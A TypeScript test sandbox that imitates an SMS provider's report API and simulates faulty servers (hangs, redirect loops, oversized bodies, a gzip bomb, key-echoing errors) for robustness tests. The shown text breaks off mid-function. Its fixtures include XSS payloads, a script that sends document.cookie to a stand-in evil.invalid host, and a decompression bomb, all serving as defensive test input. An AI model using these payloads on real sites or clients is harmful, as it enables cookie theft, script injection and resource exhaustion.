// A local server that answers like VairoSMS's "Tek Numara Raporu" API (docs/api.md), plus the ways a real server,
// proxy or network can misbehave (the fault rows of docs/reliability.md). Node built-ins only; used by the unit tests
// (imported directly), by the integration and UI tests, and by `npm run sandbox` for a demo without a real key.
//
//   POST /Panel/api/v1/NumaraRaporu/{id}?api_key=KEY   {"numara":"5399999999"}
//   GET (or POST) /Panel/api/v1/GonderimBilgisi/{id}?api_key=KEY   the send summary
//
// Order of checks for a request on that route: method (405) → fault (setFault, or a fault send ID 9001…, see
// FAULT_SEND_IDS) → api_key (401) → body (400) → send ID and number (404) → the report (200). Faults come before the
// key check on purpose: they stand for the network and the servers in front of the API, which do not know the key.
import * as http from 'node:http';
import * as https from 'node:https';
import * as zlib from 'node:zlib';
import type { AddressInfo, Socket } from 'node:net';
import { DEFAULT_PROGRESS_AFTER, findReport, findSummary, isComputed, SECOND_ACCOUNT, SUMMARY_SENDS } from './data';

export const API_PATH = '/Panel/api/v1/';
export const DEFAULT_API_KEY = 'sandbox-key';
const ROUTE = /^\/Panel\/api\/v1\/NumaraRaporu\/([^/]*)$/;
const SUMMARY_ROUTE = /^\/Panel\/api\/v1\/GonderimBilgisi\/([^/]*)$/;

/** The provider's sentences and codes, as the sandbox sends them in `aciklama`. */
export const TEXT = {
  wrongKey: 'Gönderilen api_key bilgisi hatalı, lütfen kontrol edin.',
  badBody: 'Geçersiz istek gövdesi.',
  missingNumber: 'MISSING_DESTINATION_ADDRESS',
  invalidNumber: 'INVALID_DESTINATION_ADDRESS',
  unknownSend: "Bu id'ye sahip gönderim bulunamadı.",
  /** A send of another account (each key sees only its own sends). */
  otherAccount: 'Gönderim bulunamadı.',
  numberNotInSend: 'Numara bu gönderimde bulunamadı.',
  methodNotAllowed: 'Method not allowed',
} as const;

export const JSON_TYPE = 'application/json; charset=utf-8';

/** Where a redirect fault points:
 *  - 'same-host': a relative Location on this server (followed → the normal answer after `hops` redirects);
 *  - 'loop': redirects forever;
 *  - 'other-host': the same server under another host name (localhost ↔ 127.0.0.1), i.e. another origin;
 *  - 'http': plain http on 127.0.0.1 (with `tls`, a companion http listener of this sandbox; without, this server);
 *  - an absolute http(s) URL, used verbatim. */
export type RedirectTarget = 'same-host' | 'other-host' | 'http' | 'loop' | `http://${string}` | `https://${string}`;

export type Fault =
  /** Wait `ms`, then answer normally. */
  | { readonly kind: 'delay'; readonly ms: number }
  /** Read the request, never answer. */
  | { readonly kind: 'hang' }
  /** 200 headers, then one byte every `intervalMs` (default 100) forever. */
  | { readonly kind: 'drip'; readonly intervalMs?: number }
  /** An nginx-style HTML error page with a <script> (default status 502). */
  | { readonly kind: 'html'; readonly status?: number; readonly body?: string }
  /** A JSON content type with a body that is not JSON (single quotes, a trailing comma). */
  | { readonly kind: 'malformed-json'; readonly status?: number }
  /** A JSON body cut off in the middle (with a matching content-length, so the response itself is complete). */
  | { readonly kind: 'truncated-json'; readonly status?: number }
  /** 200 `null`. */
  | { readonly kind: 'json-null' }
  /** 200 `[…]`: an array instead of the envelope. */
  | { readonly kind: 'json-array' }
  /** An empty body (default status 200). */
  | { readonly kind: 'empty'; readonly status?: number }
  /** A JSON-looking body of `bytes` (default 2 MiB), streamed without content-length; `endless` never ends. */
  | { readonly kind: 'oversized'; readonly bytes?: number; readonly endless?: boolean }
  /** content-encoding: gzip, ~200 KB on the wire that decompress to ~200 MB (GZIP_BOMB_BYTES). */
  | { readonly kind: 'gzip-bomb' }
  /** A redirect (default 302); `hops` redirects (default 1) before the normal answer, except for 'loop'.
   *  `sendId` replaces the send ID in the target path. Counted in Sandbox.redirectStats. */
  | {
      readonly kind: 'redirect';
      readonly status?: 301 | 302 | 303 | 307 | 308;
      readonly to: RedirectTarget;
      readonly hops?: number;
      readonly sendId?: string;
    }
  /** Any status, e.g. 429 with Retry-After, 500, 502, 503. Default body: `{"durum":false,"aciklama":"<reason>"}`. */
  | {
      readonly kind: 'status';
      readonly code: number;
      readonly body?: string;
      readonly headers?: Readonly<Record<string, string>>;
    }
  /** Read the request body, then destroy the socket (ECONNRESET after the request was sent). */
  | { readonly kind: 'reset-after-body' }
  /** A server that reflects the request (URL with the key, the decoded key, the body) in its error answer. */
  /** Echoes the key back: 'json' and 'html' as they are; 'php-json' as PHP's json_encode with JSON_HEX_* writes it
   *  (\/ and \uXXXX), after a PHP notice that keeps the body from parsing as JSON; 'html-entities' with named, decimal and hex character references and lower-case percent. */
  | {
      readonly kind: 'echo';
      readonly status?: number;
      readonly format?: 'json' | 'html' | 'php-json' | 'html-entities';
    };

export type FaultKind = Fault['kind'];

/** A provider error text that must be shown as text (reliability row 1). */
export const HOSTILE_PROVIDER_TEXT = `<img src=x onerror="document.title='pwned'"><script>alert(1)</script> [Tıkla](command:workbench.action.reloadWindow) <meta http-equiv="refresh" content="0;url=https://evil.invalid/">`;

/** Send IDs that trigger a fault without setFault(), so UI tests and the demo can trigger them by typing.
 *  Any number (and any key) is accepted for them. */
export const FAULT_SEND_IDS: Readonly<Record<string, { readonly fault: Fault; readonly description: string }>> = {
  9001: { fault: { kind: 'hang' }, description: 'never answers (the client deadline fires)' },
  9002: { fault: { kind: 'html', status: 502 }, description: 'HTTP 502, an nginx HTML page with a <script>' },
  9003: { fault: { kind: 'malformed-json' }, description: '200 with malformed JSON' },
  9004: { fault: { kind: 'oversized' }, description: '200 with a 2 MiB body and no content-length' },
  9005: { fault: { kind: 'redirect', status: 302, to: 'loop' }, description: 'a redirect loop (302 to itself)' },
  9006: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '2' } },
    description: '429 with Retry-After: 2',
  },
  9007: { fault: { kind: 'status', code: 500 }, description: 'HTTP 500' },
  9008: { fault: { kind: 'empty' }, description: '200 with an empty body' },
  9009: { fault: { kind: 'json-null' }, description: '200 with the body null' },
  9010: { fault: { kind: 'json-array' }, description: '200 with a JSON array' },
  9011: { fault: { kind: 'truncated-json' }, description: '200 with JSON cut off in the middle' },
  9012: { fault: { kind: 'gzip-bomb' }, description: 'a gzip bomb (~200 KB → ~200 MB)' },
  9013: { fault: { kind: 'drip' }, description: '200 headers, then one byte every 100 ms forever' },
  9014: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '3600' } },
    description: '429 with Retry-After: 3600',
  },
  9015: { fault: { kind: 'status', code: 503 }, description: 'HTTP 503' },
  9016: { fault: { kind: 'reset-after-body' }, description: 'the connection is reset after the request' },
  9017: {
    fault: { kind: 'redirect', status: 307, to: 'same-host', sendId: '187' },
    description: '307 to NumaraRaporu/187 on the same host (followed)',
  },
  9018: {
    fault: { kind: 'redirect', status: 307, to: 'other-host' },
    description: '307 to another host name (refused)',
  },
  9019: { fault: { kind: 'delay', ms: 5000 }, description: 'answers after 5 s (as send 187)' },
  9020: { fault: { kind: 'oversized', endless: true }, description: 'an endless body' },
  9021: {
    fault: { kind: 'status', code: 400, body: JSON.stringify({ durum: false, aciklama: HOSTILE_PROVIDER_TEXT }) },
    description: 'HTTP 400 whose provider text carries HTML, a script and a command: link',
  },
  9022: {
    fault: { kind: 'status', code: 429, headers: { 'retry-after': '6' } },
    description: '429 with Retry-After: 6 (the client waits and asks again: a countdown to watch)',
  },
};

/** Sends whose summary (GonderimBilgisi) fails by itself while their number reports work. */
export const SUMMARY_FAULT_SEND_IDS: Readonly<Record<string, Fault>> = {
  [SUMMARY_SENDS.summaryFails.sendId]: { kind: 'html', status: 502 },
  [SUMMARY_SENDS.endless.sendId]: { kind: 'oversized', endless: true },
};

export function summaryFaultForSendId(sendId: string): Fault | undefined {
  return Object.prototype.hasOwnProperty.call(SUMMARY_FAULT_SEND_IDS, sendId)
    ? SUMMARY_FAULT_SEND_IDS[sendId]
    : undefined;
}

/** The fault a send ID triggers by itself (FAULT_SEND_IDS), if any. */
export function faultForSendId(sendId: string): Fault | undefined {
  return Object.prototype.hasOwnProperty.call(FAULT_SEND_IDS, sendId) ? FAULT_SEND_IDS[sendId].fault : undefined;
}

export interface SandboxOptions {
  /** Default 'sandbox-key'. */
  apiKey?: string;
  /** Default 0: a free port. */
  port?: number;
  /** Default '127.0.0.1'. */
  host?: string;
  /** Added to every answer. Default 0. */
  latencyMs?: number;
  /** Serve https with this certificate (and a companion plain-http listener for 'http' redirect targets). */
  tls?: { key: string | Buffer; cert: string | Buffer };
  /** One line per request, the key redacted. */
  log?: (line: string) => void;
  /** Queries of the progressing number that answer WAITING before it turns DELIVERED. Default 2. */
  progressAfter?: number;
  /** The methods GonderimBilgisi accepts (the others get 405). Default both: the page says GET, its sample POSTs. */
  summaryMethods?: 'GET' | 'POST' | 'both';
  /** Added to every GonderimBilgisi answer instead of latencyMs. */
  summaryLatencyMs?: number;
  /** A second account's key: it sees only SECOND_ACCOUNT's send, which the first key cannot see (both are answered
   *  "Gönderim bulunamadı." for the other's sends). Default: none. */
  secondKey?: string;
}

/** One GonderimBilgisi request (kept apart from `requests`, which are the number reports). */
export interface SummaryRecord {
  method: string;
  /** 1: the key, 2: the second key, undefined: a wrong key. */
  account: 1 | 2 | undefined;
  sendId: string;
  apiKeyOk: boolean;
  body: string;
  status: number;
  at: number;
}

export interface RequestRecord {
  method: string;
  /** The request target as received (path and query, the key included). */
  path: string;
  /** The {id} segment of NumaraRaporu/{id}, URL-decoded. */
  sendId?: string;
  /** The api_key parameter, URL-decoded, equals the configured key. */
  apiKeyOk: boolean;
  /** 1: the key, 2: the second key, undefined: a wrong key or none. */
  account: 1 | 2 | undefined;
  /** The api_key parameter, URL-decoded (undefined when absent). */
  apiKey?: string;
  body: string;
  headers: Record<string, string | string[] | undefined>;
  /** The status sent; 0 while (or if never) answered. */
  status: number;
  at: number;
  scheme: 'http' | 'https';
  /** Redirect hops this request is at (0 for a first request). */
  hop: number;
}

export interface RedirectStats {
  /** Redirect answers sent. */
  issued: number;
  /** Requests that arrived at a redirect target of this sandbox (hop ≥ 1). */
  atTarget: number;
  /** Of those, how many carried a non-empty body. */
  bodiesAtTarget: number;
}

export interface Sandbox {
  /** e.g. 'http://127.0.0.1:PORT/Panel/api/v1/' (https with tls): what vairosms.apiRoot is set to. */
  readonly root: string;
  readonly port: number;
  /** With tls: the port of the companion plain-http listener. */
  readonly httpPort: number | undefined;
  /** Every request, in order of arrival. */
  readonly requests: RequestRecord[];
  /** GonderimBilgisi requests, oldest first. */
  readonly summaryRequests: SummaryRecord[];
  readonly inFlight: number;
  readonly maxInFlight: number;
  readonly redirectStats: RedirectStats;
  /** Clears requests, maxInFlight and redirectStats (not the progress of the progressing number). */
  resetStats(): void;
  setLatency(ms: number): void;
  /** Applies to every following NumaraRaporu request until cleared with undefined. */
  setFault(fault: Fault | undefined): void;
  /** Likewise for GonderimBilgisi requests. */
  setSummaryFault(fault: Fault | undefined): void;
  setSummaryMethods(methods: 'GET' | 'POST' | 'both'): void;
  setSummaryLatency(ms: number | undefined): void;
  setApiKey(key: string): void;
  setSecondKey(key: string | undefined): void;
  /** Restarts the progressing number (and any other computed answer); optionally changes its WAITING count. */
  resetProgress(progressAfter?: number): void;
  /** Closes the server and every open connection (hanging, dripping, keep-alive). Never hangs. */
  close(): Promise<void>;
}

/** Size of the decompressed gzip bomb. */
export const GZIP_BOMB_BYTES = 200 * 1024 * 1024;
/** Default size of the 'oversized' body. */
export const OVERSIZED_BYTES = 2 * 1024 * 1024;
/** The sandbox keeps at most this much of a request body. */
const MAX_REQUEST_BODY = 1024 * 1024;

let gzipBombCache: Promise<Buffer> | undefined;

/** The gzip bomb, built once per process by gzipping ~200 MB of '0' in a stream (~0.5 s), then cached. Call it in a
 *  before() hook to keep that time out of a test's own timing. */
export function gzipBomb(): Promise<Buffer> {
  gzipBombCache ??= new Promise<Buffer>((resolve, reject) => {
    const gz = zlib.createGzip({ level: 9 });
    const out: Buffer[] = [];
    gz.on('data', (c: Buffer) => out.push(c));
    gz.on('end', () => resolve(Buffer.concat(out)));
    gz.on('error', reject);
    const prefix = '{"durum":true,"aciklama":{"mesaj":"';
    gz.write(prefix);
    const zeros = Buffer.alloc(1024 * 1024, 0x30);
    let left = GZIP_BOMB_BYTES - prefix.length;
    const pump = (): void => {
      while (left > 0) {
        const n = Math.min(left, zeros.length);
        left -= n;
        if (!gz.write(n === zeros.length ? zeros : zeros.subarray(0, n))) {
          gz.once('drain', pump);
          return;
        }
      }
      gz.end();
    };
    pump();
  });
  return gzipBombCache;
}

/** The nginx-style error page of the 'html' fault. */
export function nginxPage(status: number): string {
  const title = `${status} ${http.STATUS_CODES[status] ?? 'Error'}`;
  return (
    '<html>\r\n' +
    `<head><title>${title}</title></head>\r\n` +
    '<body>\r\n' +
    `<center><h1>${title}</h1></center>\r\n` +
    '<hr><center>nginx</center>\r\n' +
    `<script>document.title='pwned';fetch('https://evil.invalid/?c='+document.cookie)</script>\r\n` +
    '</body>\r\n' +
    '</html>\r\n'
  );
}

/** What one sandbox's routes and faults share: its settings (changed through the Sandbox API), its records, and
 *  the timers and sockets close() ends. */
export interface SandboxState {
  apiKey: string;
  secondKey: string | undefined;
  latencyMs: number;
  fault: Fault | undefined;
  progressAfter: number;
  readonly queryCounts: Map<string, number>;
  readonly requests: RequestRecord[];
  readonly summaryRequests: SummaryRecord[];
  summaryMethods: 'GET' | 'POST' | 'both';
  summaryLatencyMs: number | undefined;
  summaryFault: Fault | undefined;
  readonly redirectStats: RedirectStats;
  inFlight: number;
  maxInFlight: number;
  closed: boolean;
  readonly timers: Set<NodeJS.Timeout>;
  readonly sockets: Set<Socket>;
  readonly log: ((line: string) => void) | undefined;
  readonly scheme: 'http' | 'https';
  port: number;
  httpPort: number | undefined;
}

/** Which account a key is, or undefined for a wrong key. */
export const accountOf = (s: SandboxState, key: string | undefined): 1 | 2 | undefined =>
  key === undefined
    ? undefined
    : key === s.apiKey
      ? 1
      : s.secondKey !== undefined && key === s.secondKey
        ? 2
        : undefined;
/** True when the send belongs to the other account than the key's. */
export const foreign = (account: 1 | 2, sendId: string): boolean =>
  (sendId.replace(/^0+(?=\d)/, '') === SECOND_ACCOUNT.sendId) !== (account === 2);

/** setTimeout that close() can cancel; the promise then never settles (the socket is gone anyway). */
export const later = (s: SandboxState, ms: number): Promise<void> =>
  new Promise((resolve) => {
    const t = setTimeout(() => {
      s.timers.delete(t);
      resolve();
    }, ms);
    s.timers.add(t);
  });

export async function startSandbox(opts: SandboxOptions = {}): Promise<Sandbox> {
  const state: SandboxState = {
    apiKey: opts.apiKey ?? DEFAULT_API_KEY,
    secondKey: opts.secondKey,
    latencyMs: opts.latencyMs ?? 0,
    fault: undefined,
    progressAfter: opts.progressAfter ?? DEFAULT_PROGRESS_AFTER,
    queryCounts: new Map<string, number>(),
    requests: [],
    summaryRequests: [],
    summaryMethods: opts.summaryMethods ?? 'both',
    summaryLatencyMs: opts.summaryLatencyMs,
    summaryFault: undefined,
    redirectStats: { issued: 0, atTarget: 0, bodiesAtTarget: 0 },
    inFlight: 0,
    maxInFlight: 0,
    closed: false,
    timers: new Set<NodeJS.Timeout>(),
    sockets: new Set<Socket>(),
    log: opts.log,
    scheme: opts.tls ? 'https' : 'http',
    port: 0,
    httpPort: undefined,
  };
  const host = opts.host ?? '127.0.0.1';
  const log = opts.log;

  const handler =
    (reqScheme: 'http' | 'https') =>
    (req: http.IncomingMessage, res: http.ServerResponse): void => {
      handle(state, req, res, reqScheme).catch((e: unknown) => {
        log?.(`sandbox: handler error ${String(e)}`);
        if (!res.headersSent && !res.destroyed) {
          res.writeHead(500, { 'content-type': 'text/plain' });
          res.end('sandbox error');
        } else {
          res.destroy();
        }
      });
    };

  const main = opts.tls
    ? https.createServer({ key: opts.tls.key, cert: opts.tls.cert }, handler('https'))
    : http.createServer(handler('http'));
  const companion = opts.tls ? http.createServer(handler('http')) : undefined;
  for (const server of [main, companion]) {
    if (!server) continue;
    server.on('connection', (s: Socket) => {
      state.sockets.add(s);
      s.once('close', () => state.sockets.delete(s));
    });
    server.on('clientError', (_e, s: Socket) => {
      s.destroy();
    });
  }

  state.port = await listen(main, opts.port ?? 0, host);
  if (companion) {
    try {
      state.httpPort = await listen(companion, 0, host);
    } catch (e) {
      main.close();
      throw e;
    }
  }
  const urlHost = host.includes(':') ? `[${host}]` : host;
  const root = `${state.scheme}://${urlHost}:${state.port}${API_PATH}`;

  return {
    root,
    port: state.port,
    httpPort: state.httpPort,
    requests: state.requests,
    summaryRequests: state.summaryRequests,
    get inFlight() {
      return state.inFlight;
    },
    get maxInFlight() {
      return state.maxInFlight;
    },
    redirectStats: state.redirectStats,
    resetStats() {
      state.requests.length = 0;
      state.summaryRequests.length = 0;
      state.maxInFlight = state.inFlight;
      state.redirectStats.issued = 0;
      state.redirectStats.atTarget = 0;
      state.redirectStats.bodiesAtTarget = 0;
    },
    setLatency(ms: number) {
      state.latencyMs = ms;
    },
    setFault(f: Fault | undefined) {
      state.fault = f;
    },
    setSummaryFault(f: Fault | undefined) {
      state.summaryFault = f;
    },
    setSummaryMethods(m: 'GET' | 'POST' | 'both') {
      state.summaryMethods = m;
    },
    setSummaryLatency(ms: number | undefined) {
      state.summaryLatencyMs = ms;
    },
    setSecondKey(key: string | undefined) {
      state.secondKey = key;
    },
    setApiKey(key: string) {
      state.apiKey = key;
    },
    resetProgress(n?: number) {
      state.queryCounts.clear();
      if (n !== undefined) state.progressAfter = n;
    },
    async close() {
      if (state.closed) return;
      state.closed = true;
      for (const t of state.timers) {
        clearTimeout(t);
        clearInterval(t);
      }
      state.timers.clear();
      const closing = [main, companion]
        .filter((s): s is http.Server => !!s)
        .map(
          (s) =>
            new Promise<void>((resolve) => {
              s.close(() => resolve());
              s.closeAllConnections();
            }),
        );
      for (const s of state.sockets) s.destroy();
      state.sockets.clear();
      await Promise.all(closing);
    },
  };
}

export async function handle(
  s: SandboxState,
  req: http.IncomingMessage,
  res: http.ServerResponse,
  reqScheme: 'http' | 'https',
): Promise<void> {
  s.inFlight++;
  s.maxInFlight = Math.max(s.maxInFlight, s.inFlight);
  res.once('close', () => {
    s.inFlight--;
  });
  const started = Date.now();
  const target = req.url ?? '/';
  const url = new URL(target, 'http://sandbox.invalid');
  const summaryMatch = SUMMARY_ROUTE.exec(url.pathname);
  if (summaryMatch) {
    s.inFlight--; // a summary is not a report: it counts in s.summaryRequests, not in the reports' in-flight figures
    res.removeAllListeners('close');
    return handleSummary(s, req, res, url, safeDecode(summaryMatch[1]), reqScheme);
  }
  const match = ROUTE.exec(url.pathname);
  const givenKey = url.searchParams.get('api_key') ?? undefined;
  const hop = Number(url.searchParams.get('sandbox_hop') ?? '0') || 0;
  const record: RequestRecord = {
    method: req.method ?? '',
    path: target,
    ...(match ? { sendId: safeDecode(match[1]) } : {}),
    apiKeyOk: givenKey !== undefined && givenKey === s.apiKey,
    account: accountOf(s, givenKey),
    ...(givenKey !== undefined ? { apiKey: givenKey } : {}),
    body: '',
    headers: { ...req.headers },
    status: 0,
    at: started,
    scheme: reqScheme,
    hop,
  };
  s.requests.push(record);
  const head = (status: number, headers: http.OutgoingHttpHeaders): void => {
    record.status = status;
    res.writeHead(status, headers);
    s.log?.(`${record.method} ${redactKey(target)} → ${status} (${Date.now() - started} ms)`);
  };
  const sendText = (
    status: number,
    contentType: string,
    body: string | Buffer,
    extra: http.OutgoingHttpHeaders = {},
  ): void => {
    const buf = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
    head(status, { 'content-type': contentType, 'content-length': buf.length, ...extra });
    res.end(buf);
  };
  const sendJson = (status: number, value: unknown, extra: http.OutgoingHttpHeaders = {}): void =>
    sendText(status, JSON_TYPE, JSON.stringify(value), extra);

  record.body = await readBody(req);
  if (hop > 0) {
    s.redirectStats.atTarget++;
    if (record.body !== '') s.redirectStats.bodiesAtTarget++;
  }
  if (s.closed) return;
  if (s.latencyMs > 0) await later(s, s.latencyMs);

  if (!match) {
    sendText(404, 'text/plain; charset=utf-8', 'Not Found');
    return;
  }
  if (req.method !== 'POST') {
    sendJson(405, { durum: false, aciklama: TEXT.methodNotAllowed }, { allow: 'POST' });
    return;
  }
  const sendId = record.sendId ?? '';
  let active = s.fault ?? faultForSendId(sendId);
  if (active?.kind === 'redirect' && active.to !== 'loop' && hop >= (active.hops ?? 1)) active = undefined;
  if (active) {
    if (active.kind !== 'delay') {
      await applyFault(s, active, {
        req,
        res,
        url,
        sendId,
        hop,
        body: record.body,
        head,
        sendText,
        sendJson,
        reqScheme,
      });
      return;
    }
    await later(s, active.ms);
    if (res.destroyed) return;
  }

  const account = accountOf(s, givenKey);
  if (account === undefined) {
    sendJson(401, { durum: false, aciklama: TEXT.wrongKey });
    return;
  }
  let body: unknown;
  try {
    body = JSON.parse(record.body);
  } catch {
    sendJson(400, { durum: false, aciklama: TEXT.badBody });
    return;
  }
  if (body === null || typeof body !== 'object' || Array.isArray(body)) {
    sendJson(400, { durum: false, aciklama: TEXT.badBody });
    return;
  }
  const numara = (body as Record<string, unknown>).numara;
  if (numara === undefined || numara === null || numara === '') {
    sendJson(400, { durum: false, aciklama: TEXT.missingNumber });
    return;
  }
  const number = typeof numara === 'number' && Number.isInteger(numara) ? String(numara) : numara;
  if (typeof number !== 'string' || !/^\d+$/.test(number)) {
    sendJson(400, { durum: false, aciklama: TEXT.invalidNumber });
    return;
  }
  if (!/^\d+$/.test(sendId)) {
    sendJson(404, { durum: false, aciklama: TEXT.unknownSend });
    return;
  }
  if (foreign(account, sendId)) {
    sendJson(404, { durum: false, aciklama: TEXT.otherAccount });
    return;
  }
  const id = sendId.replace(/^0+(?=\d)/, '');
  const countKey = `${id}:${number}`;
  const query = isComputed(id, number) ? (s.queryCounts.get(countKey) ?? 0) + 1 : 1;
  const found = findReport(id, number, { query, progressAfter: s.progressAfter });
  if (!found.found) {
    sendJson(404, { durum: false, aciklama: found.missing === 'send' ? TEXT.unknownSend : TEXT.numberNotInSend });
    return;
  }
  if (isComputed(id, number)) s.queryCounts.set(countKey, query);
  sendJson(200, { durum: true, aciklama: found.report });
}

export async function handleSummary(
  s: SandboxState,
  req: http.IncomingMessage,
  res: http.ServerResponse,
  url: URL,
  sendId: string,
  reqScheme: 'http' | 'https',
): Promise<void> {
  const givenKey = url.searchParams.get('api_key') ?? undefined;
  const record: SummaryRecord = {
    method: req.method ?? '',
    sendId,
    apiKeyOk: givenKey !== undefined && givenKey === s.apiKey,
    account: accountOf(s, givenKey),
    body: '',
    status: 0,
    at: Date.now(),
  };
  s.summaryRequests.push(record);
  const head = (status: number, headers: http.OutgoingHttpHeaders): void => {
    record.status = status;
    res.writeHead(status, headers);
    s.log?.(`${record.method} /GonderimBilgisi/${sendId} → ${status}`);
  };
  const sendText = (
    status: number,
    contentType: string,
    body: string | Buffer,
    extra: http.OutgoingHttpHeaders = {},
  ) => {
    const buf = typeof body === 'string' ? Buffer.from(body, 'utf8') : body;
    head(status, { 'content-type': contentType, 'content-length': buf.length, ...extra });
    res.end(buf);
  };
  const sendJson = (status: number, value: unknown, extra: http.OutgoingHttpHeaders = {}) =>
    sendText(status, JSON_TYPE, JSON.stringify(value), extra);
  record.body = await readBody(req);
  if (s.closed) return;
  const wait = s.summaryLatencyMs ?? s.latencyMs;
  if (wait > 0) await later(s, wait);
  const method = req.method ?? '';
  if ((method !== 'GET' && method !== 'POST') || (s.summaryMethods !== 'both' && method !== s.summaryMethods)) {
    sendJson(
      405,
      { durum: false, aciklama: TEXT.methodNotAllowed },
      { allow: s.summaryMethods === 'both' ? 'GET, POST' : s.summaryMethods },
    );
    return;
  }
  const active = s.summaryFault ?? summaryFaultForSendId(sendId) ?? faultForSendId(sendId);
  if (active && active.kind !== 'redirect') {
    if (active.kind === 'delay') await later(s, active.ms);
    else {
      await applyFault(s, active, {
        req,
        res,
        url,
        sendId,
        hop: 0,
        body: record.body,
        head,
        sendText,
        sendJson,
        reqScheme,
      });
      return;
    }
  }
  const account = accountOf(s, givenKey);
  if (account === undefined) {
    sendJson(401, { durum: false, aciklama: TEXT.wrongKey });
    return;
  }
  if (/^\d+$/.test(sendId) && foreign(account, sendId)) {
    sendJson(404, { durum: false, aciklama: TEXT.otherAccount });
    return;
  }
  const summary = /^\d+$/.test(sendId) ? findSummary(sendId.replace(/^0+(?=\d)/, '')) : undefined;
  if (!summary) {
    sendJson(404, { durum: false, aciklama: TEXT.unknownSend });
    return;
  }
  sendJson(200, { durum: true, aciklama: summary });
}

export interface FaultContext {
  req: http.IncomingMessage;
  res: http.ServerResponse;
  url: URL;
  sendId: string;
  hop: number;
  /** The request body as received. */
  body: string;
  reqScheme: 'http' | 'https';
  head(status: number, headers: http.OutgoingHttpHeaders): void;
  sendText(status: number, contentType: string, body: string | Buffer, extra?: http.OutgoingHttpHeaders): void;
  sendJson(status: number, value: unknown, extra?: http.OutgoingHttpHeaders): void;
}

export async function applyFault(
  s: SandboxState,
  f: Exclude<Fault, { kind: 'delay' }>,
  c: FaultContext,
): Promise<void> {
  const { res } = c;
  switch (f.kind) {
    case 'hang':
      return; // the request stays open until the client gives up or close() destroys the socket
    case 'drip': {
      c.head(200, { 'content-type': JSON_TYPE });
      res.write('{"durum":true,"aciklama":{"mesaj":"');
      const t = setInterval(() => {
        if (res.destroyed || s.closed) {
          clearInterval(t);
          s.timers.delete(t);
          return;
        }
        res.write('.');
      }, f.intervalMs ?? 100);
      s.timers.add(t);
      res.once('close', () => {
        clearInterval(t);
        s.timers.delete(t);
      });
      return;
    }
    case 'html': {
      const status = f.status ?? 502;
      c.sendText(status, 'text/html', f.body ?? nginxPage(status));
      return;
    }
    case 'malformed-json':
      c.sendText(f.status ?? 200, JSON_TYPE, `{"durum": true, "aciklama": {'id': 3024, "numara": "5399999999",}}`);
      return;
    case 'truncated-json':
      c.sendText(
        f.status ?? 200,
        JSON_TYPE,
        '{"durum":true,"aciklama":{"id":3024,"sms_gonderim_id":187,"numara":"53999',
      );
      return;
    case 'json-null':
      c.sendText(200, JSON_TYPE, 'null');
      return;
    case 'json-array':
      c.sendText(
        200,
        JSON_TYPE,
        JSON.stringify([{ durum: true, aciklama: { id: 3024, durum_gonderim: 'DELIVERED' } }]),
      );
      return;
    case 'empty':
      c.sendText(f.status ?? 200, JSON_TYPE, '');
      return;
    case 'oversized': {
      c.head(200, { 'content-type': JSON_TYPE });
      streamBody(
        s,
        res,
        '{"durum":true,"aciklama":{"mesaj":"',
        f.endless ? undefined : (f.bytes ?? OVERSIZED_BYTES),
        '"}}',
      );
      return;
    }
    case 'gzip-bomb': {
      const bomb = await gzipBomb();
      if (res.destroyed || s.closed) return;
      c.head(200, { 'content-type': JSON_TYPE, 'content-encoding': 'gzip', 'content-length': bomb.length });
      res.end(bomb);
      return;
    }
    case 'redirect': {
      const q = new URLSearchParams(c.url.search);
      q.set('sandbox_hop', String(c.hop + 1));
      const path = `${API_PATH}NumaraRaporu/${encodeURIComponent(f.sendId ?? c.sendId)}?${q.toString()}`;
      const hostName = (c.req.headers.host ?? '').replace(/:\d+$/, '');
      const ownPort = c.reqScheme === s.scheme ? s.port : (s.httpPort ?? s.port);
      let location: string;
      switch (f.to) {
        case 'same-host':
        case 'loop':
          location = path;
          break;
        case 'other-host':
          location = `${c.reqScheme}://${hostName === 'localhost' ? '127.0.0.1' : 'localhost'}:${ownPort}${path}`;
          break;
        case 'http':
          location = `http://127.0.0.1:${s.httpPort ?? s.port}${path}`;
          break;
        default:
          location = f.to;
      }
      s.redirectStats.issued++;
      c.sendText(f.status ?? 302, 'text/html', `<a href="${location.replace(/"/g, '&quot;')}">moved</a>`, {
        location,
      });
      return;
    }
    case 'status': {
      const body = f.body ?? JSON.stringify({ durum: false, aciklama: http.STATUS_CODES[f.code] ?? `HTTP ${f.code}` });
      const contentType =
        f.headers?.['content-type'] ?? (looksLikeJson(body) ? JSON_TYPE : 'text/plain; charset=utf-8');
      c.sendText(f.code, contentType, body, { ...f.headers });
      return;
    }
    case 'reset-after-body':
      c.req.socket.destroy();
      return;
    case 'echo': {
      const status = f.status ?? 400;
      const key = c.url.searchParams.get('api_key') ?? '';
      const reqBody = c.body;
      if (f.format === 'php-json') {
        // json_encode($a, JSON_HEX_TAG | JSON_HEX_AMP | JSON_HEX_APOS | JSON_HEX_QUOT): \/ and \u00XX escapes.
        const hexed = (t: string) =>
          JSON.stringify(t)
            .slice(1, -1)
            .replace(/\//g, '\\/')
            .replace(/\\"/g, '\\u0022')
            .replace(/[<>&'+=]/g, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`);
        // A PHP notice printed before the JSON: the body is not JSON, so its text is what the client sees.
        c.sendText(
          status,
          JSON_TYPE,
          `PHP Notice: Undefined index: numara\n{"durum":false,"aciklama":"Ge\\u00e7ersiz anahtar ${hexed(key)}"}`,
        );
        return;
      }
      if (f.format === 'html-entities') {
        const named: Record<string, string> = {
          '&': '&amp;',
          '<': '&lt;',
          '>': '&gt;',
          '"': '&quot;',
          "'": '&#39;',
          '/': '&sol;',
          '+': '&plus;',
          '=': '&equals;',
        };
        const entities = Array.from(key, (ch) => named[ch] ?? ch).join('');
        const decimal = Array.from(key, (ch) => (/[A-Za-z0-9]/.test(ch) ? ch : `&#${ch.codePointAt(0)};`)).join('');
        const hex = Array.from(key, (ch) =>
          /[A-Za-z0-9]/.test(ch) ? ch : `&#x${ch.codePointAt(0)!.toString(16)};`,
        ).join('');
        const lower = encodeURIComponent(key).replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase());
        c.sendText(
          status,
          'text/html',
          `<html><head><title>${status} Bad Request</title></head><body><h1>Bad Request</h1>` +
            `<p>api_key: ${entities}</p><p>${decimal}</p><p>${hex}</p><a href="/retry?api_key=${lower}">retry</a>` +
            `<p>key=${lower}</p></body></html>`,
        );
        return;
      }
      if (f.format === 'html') {
        c.sendText(
          status,
          'text/html',
